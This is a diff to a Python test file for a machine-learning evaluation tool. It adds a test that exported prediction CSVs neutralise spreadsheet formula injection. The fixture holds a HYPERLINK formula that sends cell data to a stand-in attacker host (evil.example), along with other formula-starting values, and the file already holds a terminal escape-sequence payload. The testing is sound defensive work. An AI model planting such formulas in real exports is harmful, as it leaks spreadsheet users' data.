@@ -6,7 +6,9 @@ Each run here is tiny (logistic regression and a small MLP head, 2 folds, 1 epoc
 are the attack."""
 
 import contextlib
+import csv
 import io
+import re
 import shutil
 from html.parser import HTMLParser
 from pathlib import Path
@@ -25,6 +27,7 @@ from cvkit.data import Dataset
 from cvkit.report import render_comparison, render_summary, write_reports
 from cvkit.results import Results
 
+NUMBER = re.compile(r"[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?")
 ESCAPES = "\x1b[2J\x1b]0;PWNED\x07"
 
 
@@ -33,7 +36,14 @@ def _run(tiny, root: Path, classes, variant: str, sample_ids=None):
     root.mkdir(parents=True, exist_ok=True)
     plugin = root / f"{variant}.py"
     shutil.copy("plugins/mlp_head.py", plugin)
-    data = Dataset(tiny.images, tiny.labels, tuple(classes), 1, sample_ids or tiny.sample_ids, name="tiny")
+    data = Dataset(
+        tiny.images,
+        tiny.labels,
+        tuple(classes),
+        1,
+        tiny.sample_ids if sample_ids is None else np.array(sample_ids),
+        name="tiny",
+    )
     with pytest.warns(UserWarning, match="search space"):
         results = cvkit.evaluate(
             str(plugin), data=data, baseline="logreg", folds=2, repeats=1, epochs=1, out=root / "run"
@@ -205,3 +215,29 @@ def test_markdown_text_shows_any_text_literally(text):
     rendered.feed(MarkdownIt("commonmark").enable(["table", "strikethrough"]).render(md))
     assert [tag for tag, _ in rendered.tags] == ["table", "thead", "tr", "th", "tbody", "tr", "td", "p"]
     assert rendered.text == ["a", f"x {text}", f"x {text}"]
+
+
+# Item 21: CSV formula injection.
+
+FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
+
+
+@pytest.fixture(scope="module")
+def formula_run(tiny, tmp_path_factory):
+    """A class, a model and sample ids that a spreadsheet would run as formulas."""
+    starts = ("@SUM(1+1)", "+1+1", "-2+3", "\t=1", "\r=1", "=1")
+    ids = ["-3", "+4.5e2"] + [starts[i % 6] + f"#{i}" for i in range(2, len(tiny))]  # plain numbers first
+    return _run(tiny, tmp_path_factory.mktemp("formula"), ("benign", FORMULA), "-cmd", sample_ids=ids)
+
+
+def test_exported_csv_cells_never_start_a_formula(formula_run, tmp_path):
+    results, _ = formula_run
+    path = tmp_path / "predictions.csv"
+    assert main(["export", str(results.run_dir), "--predictions", str(path)]) == 0
+    with open(path, newline="") as f:
+        rows = list(csv.reader(f))
+    cells = [cell for row in rows for cell in row]
+    risky = [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r")) and not NUMBER.fullmatch(c)]
+    assert risky == []  # main: the class, the model and the sample ids as written
+    assert "'" + FORMULA in cells and "'-cmd" in cells and "'@SUM(1+1)#6" in cells
+    assert {"-3", "+4.5e2"} <= set(cells)
